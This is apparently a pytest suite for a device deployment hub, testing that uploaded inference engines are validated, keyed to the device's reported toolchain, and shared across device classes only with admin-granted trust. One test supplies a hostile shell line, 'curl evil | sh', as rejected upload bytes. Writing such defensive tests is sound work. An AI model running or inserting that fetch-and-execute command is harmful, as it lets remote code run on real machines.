"""A device cannot plant an engine: the hub keys it on what it knows of the device, checks the
bytes are its backend's, and hands it to another class only when an admin said that class trusts
the builder's.
"""

import copy
import uuid

import pytest

from deployhub.devices.models import DeviceClass
from deployhub.engines.models import Engine
from deployhub.jobs.models import Job, JobKind
from deployhub.teams.models import Event
from tests.api_calls import call
from tests.compile_jobs import ENGINE_BYTES, FINGERPRINT, build, compile_, upload_and_complete
from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db


@pytest.fixture
def builder(make_device, client):
    device, token = make_device("builder")
    call(client, token, "device/heartbeat", {"fingerprint": FINGERPRINT})
    return device, token


@pytest.fixture
def other_class(demo_team, make_device, client):
    """A second class whose device runs the very same toolchain as the first's."""
    cls = DeviceClass.objects.create(
        team=demo_team, slug=f"edge-{uuid.uuid4().hex[:8]}", name="Edge", frame_budget_ms=50
    )
    _, token = make_device("edge-1", cls=cls)
    call(client, token, "device/heartbeat", {"fingerprint": FINGERPRINT})
    return cls


def failed_with(job):
    job.refresh_from_db()
    assert job.state == "failed"
    return job.error


def test_it_refuses_bytes_that_are_not_the_backends_engine(
    client, version, device_class, alice, builder
):
    job = compile_(version, device_class, alice)[1]

    answer = build(client, job, builder[1], data=b"#!/bin/sh\ncurl evil | sh\n")

    assert answer.status_code == 200  # the completion is answered; the build is refused
    assert "is not a onnxruntime engine: it does not parse as an ONNX model" in failed_with(job)
    assert not Engine.objects.exists()


def test_it_keys_the_engine_on_the_devices_heartbeat_not_on_what_the_build_reports(
    client, version, device_class, alice, builder
):
    job = compile_(version, device_class, alice)[1]
    elsewhere = copy.deepcopy(FINGERPRINT)
    elsewhere["onnxruntime"]["version"] = "1.20.0"
    call(client, builder[1], f"jobs/{job.pk}/claim", {"attempt": job.attempt})

    # it heartbeats FINGERPRINT, then says it built on another toolchain
    upload_and_complete(client, job, builder[1], ENGINE_BYTES, elsewhere)

    error = failed_with(job)
    assert "reports a toolchain other than builder's last heartbeat" in error
    assert "1.20.0" in error and not Engine.objects.exists()


def test_an_engine_stays_on_its_class_until_an_admin_says_another_trusts_it(
    client, version, device_class, other_class, alice, builder
):
    build(client, compile_(version, device_class, alice)[1], builder[1])
    engine = Engine.objects.get()

    reused, job = compile_(version, other_class, alice)
    assert reused is None and job.device_class == other_class  # built again, on its own class

    client.login(username="alice", password=PASSWORD)
    form = {
        "name": other_class.name,
        "serving_pattern": other_class.serving_pattern,
        "frame_budget_ms": other_class.frame_budget_ms,
        "accuracy_tolerance": other_class.accuracy_tolerance,
        "trusts_builds_of": [device_class.pk],
    }
    assert client.post(f"/devices/classes/{other_class.pk}/edit", form).status_code == 302
    Job.objects.filter(pk=job.pk).delete()

    assert compile_(version, other_class, alice) == (engine, None)
    event = Event.objects.get(verb="device_class.changed")
    assert event.data["after"] == {"trusts_builds_of": [device_class.slug]}
    assert Job.objects.filter(kind=JobKind.COMPILE).count() == 1


def test_only_an_admin_decides_what_a_class_trusts(client, device_class, other_class, bob):
    client.login(username="bob", password=PASSWORD)
    form = {
        "name": "x",
        "serving_pattern": other_class.serving_pattern,
        "frame_budget_ms": 50,
        "trusts_builds_of": [device_class.pk],
    }

    assert client.post(f"/devices/classes/{other_class.pk}/edit", form).status_code == 403
    assert not other_class.trusts_builds_of.exists()


def test_a_device_downloads_only_engines_its_class_built_or_trusts(
    client, version, device_class, other_class, alice, builder
):
    build(client, compile_(version, device_class, alice)[1], builder[1])
    engine = Engine.objects.get()
    edge = other_class.devices.get()
    edge_token = edge.issue_token()
    edge.save()

    refused = call(client, edge_token, f"engines/{engine.pk}/download", method="get")
    other_class.trusts_builds_of.add(device_class)
    served = call(client, edge_token, f"engines/{engine.pk}/download", method="get")

    assert refused.status_code == 404 and served.status_code == 200
